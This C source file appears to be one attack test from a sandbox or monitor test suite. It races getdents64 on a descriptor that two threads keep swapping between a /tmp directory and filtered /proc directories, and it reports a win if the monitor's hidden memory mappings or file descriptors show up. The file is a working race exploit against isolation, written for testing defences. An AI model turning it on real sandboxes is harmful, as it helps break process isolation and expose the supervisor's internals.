// A listing (getdents64(2)) of a number that another thread turns between a directory of /tmp and a directory of
// /proc whose listing leaves entries out: map_files, whose names are the addresses of the monitor's mappings, and
// fd, which has the monitor's descriptors.
#include "attack.h"
#include <pthread.h>

static int plain, maps, numbers, turning;

static void *turns(void *unused) {
    for (;;) {
        dup2(plain, turning);
        dup2(maps, turning);
        dup2(plain, turning);
        dup2(numbers, turning);
    }
    return unused;
}

static void judge(const char *buf, long n) {
    for (long at = 0; at < n;) {
        unsigned short len;
        memcpy(&len, buf + at + 16, 2);
        const char *name = buf + at + 19;
        unsigned long from, to;
        if (sscanf(name, "%lx-%lx", &from, &to) == 2 && from >= ATTACK_WINDOW_END)
            attack_won("a mapping of the monitor: %s", name);
        if (strspn(name, "0123456789") == strlen(name) && fcntl(atoi(name), F_GETFD) < 0 && errno == EBADF)
            attack_won("a descriptor of the monitor: %s", name);
        at += len;
    }
}

int main(void) {
    static char buf[65536];
    pthread_t thread;
    mkdir("/tmp/list", 0777);
    plain = open("/tmp/list", O_RDONLY | O_DIRECTORY);
    maps = open("/proc/self/map_files", O_RDONLY | O_DIRECTORY);
    numbers = open("/proc/self/fd", O_RDONLY | O_DIRECTORY);
    turning = dup(plain);
    if (plain < 0 || maps < 0 || numbers < 0 || turning < 0)
        attack_broken("the directories");
    for (int i = 0; i < 2; i++)
        pthread_create(&thread, NULL, turns, NULL);
    while (!attack_over()) {
        lseek(maps, 0, SEEK_SET);
        lseek(numbers, 0, SEEK_SET);
        judge(buf, syscall(SYS_getdents64, turning, buf, sizeof buf));
    }
    attack_lost();
}
